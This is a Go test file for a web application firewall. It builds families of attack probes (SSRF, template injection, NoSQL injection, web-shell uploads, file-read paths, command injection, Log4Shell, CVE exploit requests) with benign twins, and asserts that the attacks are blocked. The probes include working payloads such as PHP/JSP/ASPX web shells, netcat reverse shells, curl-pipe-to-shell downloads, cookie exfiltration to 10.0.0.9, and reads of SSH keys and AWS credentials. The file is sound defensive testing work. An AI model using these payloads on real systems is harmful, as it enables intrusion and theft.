		"http://[::ffff:169.254.169.254]/latest/user-data",
		"http://[fd00:ec2::254]/latest/meta-data/",
		"http://metadata.google.internal/computeMetadata/v1/?recursive=true",
		"http://169.254.169.254/metadata/instance?api-version=2021-02-01",
		"http://100.100.100.200/latest/meta-data/",
		"http://169.254.170.2/v2/credentials",
		"http://169.254.169.254.nip.io/latest/meta-data/",
		"http://instance-data/latest/meta-data/",
		"http://user@169.254.169.254/latest/meta-data/",
	} {
		a.get("/fetch", "url", u)
	}
	a.json("/api/webhooks", `{"callback":"http://169.254.169.254/latest/user-data"}`)
	a.field("/preview", "src", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/")
	a.xml("/api/import", `<feed><url>http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token</url></feed>`)
	a.add("GET", "/fetch?url="+url.QueryEscape("http://metadata.google.internal/computeMetadata/v1/instance/"), "", [2]string{"Metadata-Flavor", "Google"})
	ok.get("/fetch", "url", "https://api.example.com/v1/metadata")
	ok.json("/api/servers", `{"host":"10.0.0.5","port":8080,"region":"eu-west-1"}`)
	ok.get("/docs", "q", "the instance metadata service answers on a link-local address")

	// Server-side template injection: Jinja, Twig, Freemarker, Velocity,
	// Smarty, ERB, EJS, Pug, Mako, Tornado, Handlebars.
	a, ok = fam("ssti")
	for _, t := range []string{
		"{{config.items()}}",
		"{{''.__class__.__mro__[1].__subclasses__()}}",
		"{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}",
		"{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
		"{{lipsum.__globals__.os.popen('id').read()}}",
		"{{cycler.__init__.__globals__.os.popen('id').read()}}",
		"{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('id').read()}}{% endif %}{% endfor %}",
		"{{7*7}}",
		"{{7*'7'}}",
		"{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')}}",
		"{{''['\\x5f\\x5fclass\\x5f\\x5f']}}",
		`<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}`,
		`${"freemarker.template.utility.Execute"?new()("id")}`,
		`[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}`,
		`${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(" ")}`,
		`#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')`,
		`#set($e="e")$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null).invoke(null,null).exec("id")`,
		"{php}echo `id`;{/php}",
		"{system('id')}",
		`{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['c']); ?>",self::clearConfig())}`,
		`{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}`,
		"{{['id']|filter('system')}}",
		"{{['cat /etc/passwd']|map('passthru')|join}}",
		"<%= system('id') %>",
		"<%= `id` %>",
		"<%= File.open('/etc/passwd').read %>",
		"<%= global.process.mainModule.require('child_process').execSync('id') %>",
		"#{global.process.mainModule.require('child_process').execSync('id')}",
		`${self.module.cache.util.os.system("id")}`,
		`{% import os %}{{os.popen("id").read()}}`,
		`{{#with "s" as |string|}}{{#with split as |list|}}{{this.push (lookup string.sub "constructor")}}{{#each list}}{{#with (string.sub.apply 0 list)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}`,
		`@(System.Diagnostics.Process.Start("cmd.exe","/c whoami"))`,
	} {
		a.get("/page", "name", t)
	}
	a.field("/preview", "body", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}")
	a.json("/api/templates", `{"subject":"Hi","body":"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"}`)
	a.header("/", "User-Agent", "{{self.__init__.__globals__.__builtins__.__import__('os').popen('id').read()}}")
	a.add("GET", "/", "", [2]string{"Cookie", "name=" + url.QueryEscape("{{7*7}}")})
	a.get("/solr/core1/select", "v.template.custom", `#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('id'))`)
	ok.json("/api/templates", `{"template":"Hello {{ customer.first_name }}, your order {{ order.id }} has shipped."}`)
	ok.json("/api/pages", `{"body":"{% if user %}Welcome back, {{ user.name }}{% endif %}"}`)
	ok.get("/search", "q", "Velocity's #set directive assigns a variable")
	ok.field("/preview", "body", "Total: ${total} ({{count}} items)")
	ok.get("/search", "q", "jinja2 {{ loop.index }} starts at 1")

	// NoSQL operators in JSON, and the same in a form's bracketed names.
	a, ok = fam("nosql")
	a.json("/login", `{"username":{"$ne":null},"password":{"$ne":null}}`)
	a.json("/login", `{"username":"admin","password":{"$gt":""}}`)
	a.json("/login", `{"username":{"$regex":"^a"},"password":{"$ne":"x"}}`)
	a.json("/api/users", `{"$where":"sleep(5000)"}`)
	a.json("/api/users", `{"$where":"this.password.match(/^a.*/)"}`)
	a.json("/login", `{"username":{"$in":["admin","root"]},"password":{"$exists":true}}`)
	a.json("/api/users", `{"filter":{"$expr":{"$function":{"body":"function(){sleep(5000);return true}","args":[],"lang":"js"}}}}`)
	a.form("/login", "username%5B%24ne%5D=x&password%5B%24ne%5D=x")
	a.form("/login", "user=admin&pass%5B%24regex%5D=%5Ea")
	a.raw("/api/users?login[$gt]=&pass[$gt]=")
	a.raw("/api/users?q[$where]=1==1")
	a.get("/api/users", "name", `admin';return true;var x='`)
	a.json("/login", `{"username":"admin","password":{"$nin":[""]}}`)
	ok.json("/api/checkout", `{"price":"$25.00","currency":"USD","note":"save $5 next time"}`)
	ok.json("/api/schemas", `{"$schema":"https://json-schema.org/draft/2020-12/schema","type":"object","properties":{"id":{"$ref":"#/$defs/id"}}}`)
	ok.json("/graphql", `{"query":"query($id: ID!){ user(id: $id) { name } }","variables":{"id":"5"}}`)
	ok.form("/transfer", "amount=%24100&memo=rent+%24ne+month")
	ok.get("/search", "q", "mongodb $where and $ne operators explained")

	// Web shells and their disguises, to upload routes.
	a, ok = fam("upload")
	php := "<?php system($_GET['c']); ?>"
	for _, f := range [][3]string{
		{"shell.php.jpg", "image/jpeg", php},
		{"shell.phtml", "application/octet-stream", php},
		{"shell.pht", "application/octet-stream", php},
		{"shell.phar", "application/octet-stream", php},
		{"shell.php7", "application/octet-stream", php},
		{"shell.PhP5", "image/png", php},
		{"cmd.jsp", "image/jpeg", `<%@ page import="java.io.*" %><% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>`},
		{"cmd.jspx", "text/xml", `<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>`},
		{"cmd.aspx", "image/gif", `<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]); %>`},
		{"cmd.ashx", "text/plain", "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System.Web;\npublic class H : IHttpHandler { public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start(c.Request[\"c\"]); } public bool IsReusable { get { return false; } } }"},
		{"x.asp", "image/jpeg", `<%eval request("x")%>`},
		{"cmd.png", "image/png", `<%Runtime.getRuntime().exec(request.getParameter("c"));%>`},
		{"x.gif", "image/gif", `<%!String c;%><%=c%>`},
		{"x.cer", "image/png", `<%execute request("x")%>`},
		{".htaccess", "text/plain", "AddType application/x-httpd-php .jpg\n"},
		{".htaccess", "text/plain", "<FilesMatch \"\\.png$\">\nSetHandler application/x-httpd-php\n</FilesMatch>\n"},
		{".user.ini", "text/plain", "auto_prepend_file=avatar.jpg\n"},
		{"web.config", "text/xml", `<?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="x" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" /></handlers></system.webServer></configuration>`},
		{"avatar.gif", "image/gif", "GIF89a;\n" + php},
		{"avatar.gif", "image/gif", "GIF89a<? system($_GET['c']); ?>"},
		{"avatar.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00<script language=\"php\">system($_GET['c']);</script>"},
		{"avatar.png", "image/png", "<script runat=\"server\" language=\"C#\">void Page_Load(){System.Diagnostics.Process.Start(Request[\"c\"]);}</script>"},
		{"shell.php;.jpg", "image/jpeg", "GIF89a"},
		{"shell.asp;.jpg", "image/jpeg", "GIF89a"},
		{"shell.php.", "image/jpeg", "GIF89a"},
		{"shell.php ", "image/jpeg", "GIF89a"},
		{"shell.php::$DATA", "image/jpeg", "GIF89a"},
		{"shell.php/", "image/jpeg", "GIF89a"},
		{"shell.php\x00.jpg", "image/jpeg", php},
		{"shell.php%00.jpg", "image/jpeg", php},
		{"../../../var/www/html/x.php", "image/jpeg", "GIF89a"},
		{"..%2f..%2fx.jsp", "image/jpeg", "GIF89a"},
		{"SHELL.PHP", "image/jpeg", "GIF89a"},
		{"shell.shtml", "text/html", `<!--#exec cmd="id" -->`},
		{"x.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><script>fetch('//10.0.0.9/?'+document.cookie)</script></svg>`},
		{"x.elf", "application/octet-stream", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"},
		{"update.exe", "image/png", "MZ\x90\x00" + strings.Repeat("\x00", 0x40) + "PE\x00\x00"},
	} {
		a.file("/upload", f[0], f[1], f[2])
	}
	a.upload("/upload", `name="file"; filename*=UTF-8''shell.php`, "image/jpeg", "GIF89a")
	a.upload("/upload", `name="file"; filename="a.jpg"; filename*=UTF-8''shell.php`, "image/jpeg", php)
	a.upload("/upload", `name="file"; filename="a.jpg"; filename="shell.php"`, "image/jpeg", "GIF89a")
	a.upload("/upload", `name="file"; filename=shell.php`, "image/jpeg", "GIF89a")
	a.upload("/upload", "name=\"file\"; filename=\"shell.ph\np\"", "image/jpeg", php)
	a.add("PUT", "/uploads/shell.jsp/", `<% Runtime.getRuntime().exec(request.getParameter("c")); %>`, [2]string{"Content-Type", "application/octet-stream"})
	a.add("PUT", "/uploads/shell.jsp%20", `<% out.println(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).next()); %>`)
	a.add("PUT", "/uploads/x.php", php, [2]string{"Content-Type", "text/plain"})
	a.json("/api/files", `{"name":"x.php","content":"`+b64(php)+`"}`)
	a.json("/api/files", `{"name":"avatar.png","content":"data:image/png;base64,`+b64(php)+`"}`)
	ok.file("/upload", "photo.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xdb\x00C\x00\x08\x06\x06\x07\x06\x05\x08")
	ok.file("/upload", "cat.png", "image/png", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa")
	ok.file("/upload", "anim.gif", "image/gif", "GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
	ok.file("/upload", "report.pdf", "application/pdf", "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n")
	ok.file("/upload", "report.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml")
	ok.file("/upload", "data.csv", "text/csv", "name,amount\nann,12\nbob,7\n")
	ok.file("/upload", "notes.txt", "text/plain", "Meeting notes: move the PHP site to the new host; check the .htaccess rules.\n")
	ok.file("/upload", "my photo (1).jpeg", "image/jpeg", "\xff\xd8\xff\xe1\x00\x18Exif\x00\x00II*\x00")
	ok.upload("/upload", `name="file"; filename="r\u00e9sum\u00e9.pdf"; filename*=UTF-8''r%C3%A9sum%C3%A9.pdf`, "application/pdf", "%PDF-1.4\n")
	ok.json("/api/files", `{"name":"avatar.png","content":"data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=="}`)
	ok.add("PUT", "/uploads/photo.jpg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00", [2]string{"Content-Type", "application/octet-stream"})

	// File reads: Linux process files, Windows paths, UNC paths, dot files.
	a, ok = fam("lfi")
	for _, v := range []string{
		"/proc/self/environ",
		"/proc/self/fd/0",
		"/proc/1/cmdline",
		"..\\..\\..\\windows\\win.ini",
		"C:\\boot.ini",
		"C:\\Windows\\System32\\drivers\\etc\\hosts",
		"c:\\windows\\system32\\config\\sam",
		"\\\\10.0.0.9\\share\\x.txt",
		"\\\\attacker.example.net\\share\\x.php",
		"file:///C:/Windows/win.ini",
		"/etc/passwd%00.jpg",
		"..%252f..%252f..%252fetc%252fpasswd",
		"%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
		"/var/log/nginx/access.log",
		"/home/ubuntu/.ssh/id_rsa",
		"../../../../root/.aws/credentials",
		"../../../../root/.bash_history",
		"../../.env",
		"/./././etc/passwd",
		"/etc//passwd",
		"..%5c..%5c..%5cwindows%5cwin.ini",
		"....\\\\....\\\\windows\\\\win.ini",
		"C:/inetpub/wwwroot/web.config",
		"/usr/local/etc/php/php.ini",
	} {
		a.get("/download", "file", v)
	}
	// The same share with forward slashes: in a parameter named as a
	// file (elsewhere it is a scheme-relative link).
	a.get("/download", "file", "//attacker.example.net/share/x.php")
	a.json("/api/export", `{"path":"../../../../etc/passwd"}`)
	a.xml("/api/export", `<export><file>..\..\..\windows\win.ini</file></export>`)
	a.add("GET", "/", "", [2]string{"Cookie", "lang=../../../../etc/passwd"})
	a.add("GET", "/", "", [2]string{"Cookie", "template=..%2f..%2f..%2f..%2fproc%2fself%2fenviron"})
	a.raw("/static/..%2f..%2f..%2fetc/passwd")
	a.raw("/static/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
	a.raw("/files/..;/..;/..;/etc/passwd")
	a.file("/upload", "../../../../etc/cron.d/job", "text/plain", "* * * * * root curl 10.0.0.9|sh\n")
	ok.get("/download", "file", "reports/2024/q1.pdf")
	ok.get("/page", "name", "about.html")
	ok.json("/api/files", `{"path":"src/main/java/App.java"}`)
	ok.json("/api/questions", `{"title":"where does Windows keep win.ini and hosts?"}`)
	ok.get("/folder", "path", "Documents/Projects/2024")

	// Command injection without spaces.
	a, ok = fam("cmd-nospace")
	for _, v := range []string{
		";{cat,/etc/passwd}",
		";cat</etc/passwd",
		";cat$IFS$9/etc/passwd",
		";cat$IFS/etc/passwd",
		"|curl${IFS}10.0.0.9/x|sh",
		";X=$'cat\\x20/etc/passwd'&&$X",
		";w'h'o'am'i",
		";w\\ho\\am\\i",
		"$(id)",
		"`id`",
		";/???/??t${IFS}/???/p??s??",
		"\nid",
		"\n/bin/cat\t/etc/passwd",
		";cat\t/etc/passwd",
		"a;{ping,-c,3,10.0.0.9}",
		"&ping\t-n\t10\t127.0.0.1&",
		";sh${IFS}-c${IFS}'id'",
		";$(printf${IFS}'\\x69\\x64')",
		";echo${IFS}aWQ=|base64${IFS}-d|sh",
		"||id||",
		";id;",
		"&type\tC:\\Windows\\win.ini",
		"|powershell.exe\t-enc\tSQBFAFgA",
		";c''at${IFS}/e''tc/pa''sswd",
		"127.0.0.1%0aid",
		";nc${IFS}10.0.0.9${IFS}4444${IFS}-e${IFS}/bin/sh",
		"$(curl${IFS}-s${IFS}10.0.0.9/x|bash)",
	} {
		a.field("/ping", "host", v)
	}
	a.json("/api/diag", `{"host":"127.0.0.1;cat${IFS}/etc/passwd"}`)
	a.get("/api/diag", "host", "1.1.1.1|id")
	a.add("GET", "/", "", [2]string{"Cookie", "lang=" + url.QueryEscape(";{wget,10.0.0.9/x,-O,/tmp/x}")})
	a.raw("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)")
	a.raw("/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://10.0.0.9/m+-O+/tmp/n;sh+/tmp/n&curpath=/&currentsetting.htm=1")
	a.raw("/shell?cd+/tmp;rm+-rf+*;wget+10.0.0.9/j;sh+/tmp/j")
	a.form("/GponForm/diag_Form?images/", "XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host="+url.QueryEscape("`busybox wget http://10.0.0.9/x -O /tmp/x`;sh /tmp/x")+"&ipv=0")
	a.json("/run", `{"client":"ssh","tgt":"*","fun":"a","roster":"x","ssh_priv":"x;id;"}`)
	ok.field("/ping", "host", "10.0.0.1")
	ok.field("/ping", "host", "db-01.example.com")
	ok.field("/notes", "title", "Tom & Jerry; a classic")
	ok.json("/api/tags", `{"tags":"a|b|c","cmd":"status"}`)
	ok.get("/search", "q", "cost $(5) per unit")
	ok.field("/notes", "title", "price=$5;tax=$1")

	// Log4Shell lookups in the headers loggers record.
	a, ok = fam("log4shell")
	for _, h := range []string{"User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "Authorization", "X-Request-Id", "Accept-Language"} {
		a.header("/", h, "${jndi:ldap://10.0.0.9:1389/"+strings.ToLower(h)+"}")
	}
	for _, v := range []string{
		"${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://10.0.0.9/a}",
		"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://10.0.0.9/a}",
		"${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//10.0.0.9/a}",
		"${jndi:dns://10.0.0.9/a}",
		"${${upper:j}ndi:rmi://10.0.0.9/a}",
		"${j${k8s:k5:-ND}i:ldap://10.0.0.9/a}",
		"${jndi:ldap://127.0.0.1#x.example.net/a}",
		"${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://10.0.0.9/a}",
	} {
		a.header("/", "User-Agent", v)
		a.get("/solr/admin/cores", "action", v)
	}
	a.json("/api/login", `{"username":"${jndi:ldap://10.0.0.9/u}","password":"x"}`)
	a.raw("/" + pathEscape("${jndi:ldap://10.0.0.9/p}") + "/")
	ok.header("/", "User-Agent", "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36")
	ok.get("/search", "q", "log4j jndi lookup CVE-2021-44228 patch")
	ok.json("/api/config", `{"message":"Logs go to ${logDir} unless the level is ${level}."}`)

	// The families of the captured "other" requests, other members.
	a, ok = fam("app-rce")
	a.field("/checkValid", "document", `this.constructor.constructor("return process")().mainModule.require("child_process").exec("id")`)
	a.json("/api/eval", `{"code":"process.binding('spawn_sync').spawn({file:'id',args:['id'],stdio:[{type:'pipe',readable:1}]})"}`)
	a.field("/api/run", "expr", `require('child_process').spawnSync('id')`)
	a.field("/api/run", "expr", `global.process.mainModule.constructor._load("child_process").execSync("id")`)
	a.get("/api/run", "expr", `Function("return this")().process.mainModule.require("fs").readFileSync("/etc/passwd")`)
	a.json("/api/users", `{"__proto__":{"isAdmin":true}}`)
	a.json("/api/render", `{"constructor":{"prototype":{"outputFunctionName":"x;process.mainModule.require('child_process').execSync('id');x"}}}`)
	a.raw("/api/users?__proto__[admin]=1")
	a.raw("/api/users?constructor[prototype][polluted]=1")
	a.raw("/api/users?__proto__.toString=1")
	a.raw("/php/connector.minimal.php?cmd=archive&name=" + url.QueryEscape("-TvTT=curl http://10.0.0.9/x|sh #a.zip") + "&target=l1_Lw&type=application%2Fzip")
	a.raw("/elfinder/php/connector.php?cmd=resize&target=l1_x&width=1&height=1&mode=rotate&degree=" + url.QueryEscape("1;id;"))
	a.form("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", "form_id=user_register_form&_drupal_ajax=1&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=id")
	a.form("/?q=user/password&name%5B%23post_render%5D%5B%5D=passthru&name%5B%23type%5D=markup&name%5B%23markup%5D=id", "form_id=user_pass&_triggering_element_name=name")
	a.form("/node/1?destination="+url.QueryEscape("node?q[%23post_render][]=passthru&q[%23type]=markup&q[%23markup]=id"), "form_id=node_delete_confirm")
	a.raw("/api/console/api_server?sense_version=%40%40SENSE_VERSION&apis=../../../../../../../../.es_tmp/x.js")
	a.raw("/assets/file:%2f%2f/app/assets/images/%252e%252e/%252e%252e/%252e%252e/etc/passwd")
	a.raw("/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=" + url.QueryEscape(`public class x { public x() { "id".execute() } }`))
	a.raw("/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value=" + url.QueryEscape(`@GrabConfig(disableChecksums=true)@GrabResolver(name='x',root='http://10.0.0.9/')@Grab(group='x',module='x',version='1')import X;`))
	a.form("/ajax/render/widget_php", "routestring=ajax/render/widget_php&widgetConfig%5Bcode%5D="+url.QueryEscape("echo shell_exec('id'); exit;"))
	a.get("/index.php", "cmd", "system('id');")
	a.get("/index.php", "code", "phpinfo();")
	a.field("/index.php", "x", `assert($_POST[1])`)
	a.field("/index.php", "x", `file_put_contents('x.php','<?php eval($_POST[1]);')`)
	a.get("/solr/db/dataimport", "dataConfig", `<dataConfig><dataSource type="URLDataSource"/><script><![CDATA[function f(row){ java.lang.Runtime.getRuntime().exec("id"); return row; }]]></script><document><entity name="e" url="http://10.0.0.9/x.xml" processor="XPathEntityProcessor" forEach="/x" transformer="script:f"/></document></dataConfig>`)
	ok.field("/checkValid", "document", "This document describes the constructor of the report class.")
	ok.json("/api/users", `{"name":"Ann","prototype":false,"constructor":"ACME builders"}`)
	ok.raw("/php/connector.minimal.php?cmd=open&target=l1_Lw&init=1&tree=1")
	ok.form("/user/register", "form_id=user_register_form&name=ann&mail=ann%40example.com&op=Create+new+account")
	ok.raw("/api/console/api_server?sense_version=7.10.0&apis=es_6_0")
	ok.get("/search", "q", "node child_process execSync vs spawnSync")

	return cs
}

// utf16LE is s in UTF-16LE with a byte-order mark (s is ASCII).
func utf16LE(s string) string {
	b := []byte{0xff, 0xfe}
	for i := 0; i < len(s); i++ {
		b = append(b, s[i], 0)
	}
	return string(b)
}

// TestCapturesCVE holds moat to blocking every CVE probe and passing
// every benign twin.
func TestCapturesCVE(t *testing.T) {
	cs := cveProbes()
	reqs := make([]corpusReq, len(cs))
	for i, c := range cs {
		reqs[i] = c.corpusReq(i)
		if strings.ContainsAny(c.body, "\x00\x80\xac\xff") || !utf8.ValidString(c.body) {
			reqs[i].BodyB64 = base64.StdEncoding.EncodeToString([]byte(c.body))
		}
	}
	writeCorpus(t, *cveOut, reqs)
	w, err := New(Config{})
	if err != nil {
		t.Fatal(err)
	}
	defer w.Close()
	addr := blockServer(t, w)
	results := make([]crsResult, len(reqs))
	inParallel(len(reqs), func(i int) { results[i] = send(addr, reqs[i].raw()) })
	refused := 0
	for i, c := range cs {
		res := results[i]
		switch {
		case c.attack && res.status == http.StatusBadRequest:
			// Refused before any rule: a request line that does not
			// parse ("%%32%65"). A body that does not parse is refused
			// as an attack (rules 200002 and 200003).
			refused++
		case c.attack && res.status != http.StatusForbidden:
			t.Errorf("%s: attack passed (%d): %s %s %q %q", c.category, res.status, c.method, c.target, c.body, c.headers)
		case !c.attack && res.status != http.StatusOK:
			t.Errorf("%s: benign refused (%d, rules %v): %s %s %q %q", c.category, res.status, res.ids, c.method, c.target, c.body, c.headers)
		}
	}
	t.Logf("%d requests, %d attacks refused 400 before the attack rules", len(reqs), refused)
}
